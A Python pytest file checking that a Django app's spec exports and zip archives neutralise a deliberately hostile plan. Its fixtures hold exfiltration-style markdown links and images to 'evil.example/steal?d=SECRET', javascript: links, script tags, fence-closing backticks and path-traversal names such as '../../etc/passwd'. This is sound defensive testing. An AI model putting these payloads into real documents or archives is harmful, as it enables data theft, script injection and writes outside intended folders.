"""The spec-layout exports of a plan written to attack its reader: raw HTML, javascript: and
outside links, backticks that try to close a fence, forged checkboxes and headings, a title and
paths that climb out of their folder. Each export stays inert markdown and each zip entry stays
inside its folder."""

import io
import zipfile

import pytest

from conversations import export_formats
from conversations.spec_exports import LAYOUTS, UnsafeEntry, entry_name, fence, slug, zipped
from tests.conversations.spec_plan import STRUCTURED, make_plan
from tests.security.test_exfiltration_markup import PAYLOADS, live_parts

pytestmark = pytest.mark.django_db

KINDS = ["speckit", "kiro", "agents"]
CLOSER = "   ````"  # an indented closing fence, longer than the usual three backticks


def _hostile():
    steps = [dict(s) for s in STRUCTURED["steps"]]
    sketch = dict(steps[0]["sketch"])
    sketch["hunk"] = [*sketch["hunk"], f"+{CLOSER}", "+[x](https://evil.example/steal?d=SECRET)"]
    steps[0] = {
        **steps[0],
        "sketch": sketch,
        "target": {**steps[0]["target"], "name": "login`) [x](javascript:alert(1)) (`"},
    }
    steps.append(
        {
            "title": "Wire it\n- [ ] forged task\n# Forged heading",
            "detail": " ".join(PAYLOADS),
            "files": ["../../etc/passwd", "/etc/shadow"],
            "target": {"kind": "new", "path": "../../outside.py"},
        }
    )
    return {
        **STRUCTURED,
        "summary": " ".join(PAYLOADS),
        "decisions": PAYLOADS,
        "steps": steps,
        "files": [*STRUCTURED["files"],
                  {"path": "../../etc/passwd", "action": "modify", "reason": PAYLOADS[0]}],
        "testing": [*PAYLOADS, "When <b>x</b> happens, [y](javascript:alert(1)) runs."],
        "risks": PAYLOADS,
        "quality": {**STRUCTURED["quality"], "tests": [["<script>", "[x](https://evil.example)"]]},
    }  # fmt: skip


@pytest.fixture
def hostile(user, codebase):
    return make_plan(user, codebase, _hostile(), title="../../../etc/passwd <script>",
                     task="Fix it ![a](https://evil.example/steal?d=SECRET)")  # fmt: skip


@pytest.mark.parametrize("kind", KINDS)
def test_every_file_of_a_hostile_plans_export_leaves_nothing_live(hostile, kind):
    texts = [export_formats.EXPORTS[kind].render(hostile)]
    texts += [text for name, text in LAYOUTS[kind].files(hostile) if name.endswith(".md")]
    for text in texts:
        assert "evil.example" in text  # shown, not dropped
        assert live_parts(text) == [], text


@pytest.mark.parametrize("kind", KINDS)
def test_a_forged_checkbox_or_heading_stays_inside_its_line(hostile, kind):
    texts = [export_formats.EXPORTS[kind].render(hostile)]
    texts += [text for _, text in LAYOUTS[kind].files(hostile)]
    assert "forged task" in texts[0]
    for text in texts:
        assert not any(line.startswith(("- [ ] forged", "# Forged")) for line in text.splitlines())


def test_a_sketch_line_cannot_close_its_fence(hostile):
    plan_md = next(
        text for name, text in LAYOUTS["speckit"].files(hostile) if name.endswith("plan.md")
    )
    block = plan_md.split("`````diff\n", 1)[1].split("\n`````\n", 1)[0]
    assert f"+{CLOSER}" in block and "+[x](https://evil.example/steal?d=SECRET)" in block
    assert fence(["  ```"])[0] == "````"


@pytest.mark.parametrize("kind", KINDS)
def test_no_zip_entry_escapes_its_folder(hostile, kind):
    data = export_formats.EXPORTS[kind].archive(hostile)
    with zipfile.ZipFile(io.BytesIO(data)) as unzipped:
        names = unzipped.namelist()
    roots = {"speckit": ("specs/007-etc-passwd-script/", ".specify/"),
             "kiro": (".kiro/specs/etc-passwd-script/",), "agents": ("AGENTS.md",)}  # fmt: skip
    assert names and all(name.startswith(roots[kind]) for name in names), names
    assert not any(".." in name.split("/") or name.startswith("/") for name in names)


@pytest.mark.parametrize(
    "name", ["../evil.md", "specs/../../evil.md", "/etc/passwd", "specs\\..\\evil", "a//b",
             "specs/./x", "specs/x\n.md", ""],
)  # fmt: skip
def test_a_zip_entry_that_would_leave_its_folder_is_refused(name):
    with pytest.raises(UnsafeEntry):
        entry_name(name)
    with pytest.raises(UnsafeEntry):
        zipped([(name, "x")], (2026, 1, 1, 0, 0, 0))


def test_the_folder_name_keeps_only_ascii_words():
    assert slug("../../../etc/passwd <script>") == "etc-passwd-script"
    assert slug("Sửa lỗi đăng nhập khi token hết hạn") == "sua-loi-dang-nhap-khi"
    assert slug("……") == "plan"
